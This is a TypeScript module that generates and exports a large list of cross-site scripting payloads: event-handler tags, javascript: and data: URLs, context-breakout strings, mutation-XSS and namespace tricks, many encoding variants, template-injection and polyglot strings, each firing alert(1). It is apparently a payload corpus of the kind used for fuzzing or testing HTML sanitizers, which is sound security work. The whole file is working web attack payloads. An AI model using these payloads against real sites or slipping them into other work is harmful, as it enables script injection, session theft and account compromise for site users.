// Script payloads by category, from the well-known ways to run a script in a page. Each one calls `alert`.
const call = 'alert(1)';
const scriptTag = `<script>${call}</script>`;
const imageTag = `<img src=x onerror=${call}>`;

/** Returns a text for each pair of two lists. */
const pairs = (
  first: readonly string[],
  second: readonly string[],
  join: (one: string, other: string) => string,
): string[] => first.flatMap((one) => second.map((other) => join(one, other)));

const handlers = `
  onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerdown onpointerover onpointerrawupdate ontoggle
  onbeforetoggle onbegin onend onrepeat onanimationstart onanimationend onanimationiteration ontransitionend
  ontransitionrun onscroll onscrollend onwheel onresize onpageshow onhashchange onmessage oncanplay onloadstart
  onloadeddata onplay ontimeupdate oncut onpaste onbeforecopy oninput oninvalid onsearch onselectionchange
  oncontentvisibilityautostatechange`
  .trim()
  .split(/\s+/);
const elements = ['<img src=x', '<svg', '<details open', '<input autofocus'];
const eventHandlers = pairs(elements, handlers, (element, handler) => `${element} ${handler}=${call}>`);

const urlAttributes = [
  '<a href="URL">a</a>',
  '<map><area href="URL"></map>',
  '<form action="URL"><button>a</button></form>',
  '<form><button formaction="URL">a</button></form>',
  '<iframe src="URL"></iframe>',
  '<object data="URL"></object>',
  '<embed src="URL">',
  '<svg><a xlink:href="URL"><text y="9">a</text></a></svg>',
  '<math><mtext href="URL">a</mtext></math>',
  '<base href="URL//">',
  '<link rel="stylesheet" href="URL">',
  '<meta http-equiv="refresh" content="0;url=URL">',
];
const urls = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java&#10;script:${call}`,
  `&#106;&#97;vascript:${call}`,
  `&#x6A;avascript&colon;${call}`,
  `\u0001javascript:${call}`,
  `javascript://example.com/%0A${call}`,
  `data:text/html,${scriptTag}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
];
const scriptUrls = pairs(urlAttributes, urls, (element, url) => element.replace('URL', () => url));

const endings =
  `" ' \` > "> '> "/> --> --!> ]]> */ </title> </textarea> </style> </script> </noscript> </template> </select>
  </table> </iframe> </xmp> </math> </svg>`.split(/\s+/);
const breakouts = pairs(
  endings,
  [scriptTag, imageTag, `<svg/onload=${call}>`, ` autofocus onfocus=${call} x=`],
  (end, rest) => end + rest,
);

const rawTextElements = `noscript noembed noframes xmp plaintext listing title textarea style iframe template select
  option desc foreignObject annotation-xml mglyph malignmark`.split(/\s+/);
const namespaces = ['', '<svg>', '<math><mtext>'];
const mutations = pairs(
  namespaces,
  rawTextElements,
  (namespace, name) => `${namespace}<${name}><p title="</${name}>${imageTag}">`,
);

const entity = (text: string, write: (code: number) => string): string =>
  [...text].map((character) => write(character.codePointAt(0) ?? 0)).join('');
const encoders: readonly ((text: string) => string)[] = [
  (text) => entity(text, (code) => `&#${code};`),
  (text) => entity(text, (code) => `&#x${code.toString(16)};`),
  (text) => entity(text, (code) => `&#0000${code}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => entity(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => entity(text, (code) => `\\x${code.toString(16)}`),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '<\u200b'),
  (text) => text.replaceAll('a', '\u0430'),
];
const encoded = pairs(
  [scriptTag, imageTag],
  encoders.map((_, at) => String(at)),
  (text, at) => encoders[Number(at)]?.(text) ?? '',
);

const written =
  String.raw`
<ScRiPt>alert(1)</sCrIpT>
<script/src=data:,alert(1)></script>
<script >alert(1)</script >
<script
>alert(1)</script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
<script x=">">alert(1)</script>
<script/x>alert(1)</script/x>
<script type="module">alert(1)</script>
<script type="text/ecmascript">alert(1)</script>
<script nonce="">alert(1)</script>
<script src="//example.com/a.js"></script>
<script async src="https://example.com/a.js"></script>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)" /></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<svg><script>&#97;lert(1)</script></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x" /></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>a</text></a></svg>
<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></foreignObject></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>
<svg><title><style></title><img src=x onerror=alert(1)></style>
<math><maction actiontype="statusline#http://example.com" xlink:href="javascript:alert(1)">a</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<a><svg><p></svg><img src=x onerror=alert(1)>
<table><td background="javascript:alert(1)">
<p><table><tr><td><svg><desc><td><img src=x onerror=alert(1)>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="about:blank" onload=alert(1)></iframe>
<iframe srcdoc='<img src=x onerror=parent.alert(1)>'></iframe>
<frameset onload=alert(1)>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<marquee onstart=alert(1)>a</marquee>
<video><source onerror=alert(1)></video>
<audio src onloadstart=alert(1)>
<video poster=javascript:alert(1)//></video>
<object type="text/x-scriptlet" data="https://example.com/a.html"></object>
<applet code="javascript:alert(1)"></applet>
<isindex type=image src=1 onerror=alert(1)>
<keygen autofocus onfocus=alert(1)>
<dialog open onclose=alert(1)><form method=dialog><button>a</button></form></dialog>
<button popovertarget=x>a</button><p id=x popover onbeforetoggle=alert(1)>a</p>
<input type=image src=x onerror=alert(1)>
<input type="hidden" accesskey="X" onclick="alert(1)">
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<x contenteditable onblur=alert(1)>a</x>
<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>
<a id=x tabindex=1 onfocus=alert(1)>a</a>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=alert(1)>a</p>
<style>*{background:url(javascript:alert(1))}</style>
<style>@import 'javascript:alert(1)';</style>
<style>@import url("https://example.com/a.css");</style>
<p style="background:url('javascript:alert(1)')">a</p>
<p style="width:expression(alert(1))">a</p>
<p style="-moz-binding:url(https://example.com/a.xml#x)">a</p>
<p style="behavior:url(a.htc)">a</p>
<p style=x:e/**/xpression(alert(1))>a</p>
<p style="position:fixed;inset:0;z-index:9999"><a href="javascript:alert(1)">a</a></p>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel="preload" as="script" href="https://example.com/a.js">
<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>alert(1)</script>
<meta http-equiv="refresh" content="0;javascript:alert(1)">
<!--><script>alert(1)</script>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
<!DOCTYPE x [<!ENTITY a "<script>alert(1)</script>">]><p>&a;</p>
<%<script>alert(1)</script>%>
<img src="x` +
  '` `' +
  String.raw`onerror=alert(1)">
<img """><script>alert(1)</script>">
<img src=x:alert(1) onerror=eval(src)>
<img src=x onerror="&#97;lert(1)">
<img src=x onerror="\u0061lert(1)">
<img src=x onerror=top['al'+'ert'](1)>
<img/src=x/onerror=alert(1)>
<img%20src=x%20onerror=alert(1)>
<img	src=x	onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<img src=x onerror=alert(1)//
<img srcset=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1)></picture>
<image src=x onerror=alert(1)>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<form id=x></form><button form=x formaction=javascript:alert(1)>a</button>
<form name=body><input name=innerHTML></form><img src=x onerror=alert(1)>
<a href="https://example.com" target="_blank" onclick="alert(1)">a</a>
<a href="vbscript:alert(1)">a</a>
<a href="blob:https://example.com/alert(1)">a</a>
<a href="//example.com/a" ping="javascript:alert(1)">a</a>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<slot name=x onslotchange=alert(1)></slot>
<portal src="javascript:alert(1)"></portal>
<fencedframe src="javascript:alert(1)"></fencedframe>
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
{{_c.constructor('alert(1)')()}}
<p ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</p>
<p v-html="'<img src=x onerror=alert(1)>'"></p>
<p x-data x-init="alert(1)"></p>
<p data-bind="html: alert(1)"></p>
<p hx-on:load="alert(1)"></p>
[[constructor.constructor('alert(1)')()]]
<%= alert(1) %>
#{alert(1)}
*{alert(1)}
$` +
  '{alert(1)}\n' +
  String.raw`'-alert(1)-'
";alert(1);//
\";alert(1);//
</script><script>alert(1)</script>
*/alert(1)/*
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
jaVasCript:/*-/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}
__proto__[innerHTML]=<img/src/onerror=alert(1)>
=HYPERLINK("javascript:alert(1)")
<a href="javascript:alert(1)">{name, select, other {<img src=x onerror=alert(1)>}}</a>
[a](javascript:alert(1))
![a](x"onerror="alert(1))
\u202e<script>alert(1)</script>
<\u2028script>alert(1)</script>
`
    // A line break inside a payload is written by a tag that ends on the next line.
    .split(/\n(?!>)/)
    .map((line) => line.trim())
    .filter(Boolean);

/** Script payloads, each once. */
export const payloads: readonly string[] = [
  ...new Set([...written, ...eventHandlers, ...scriptUrls, ...breakouts, ...mutations, ...encoded]),
];
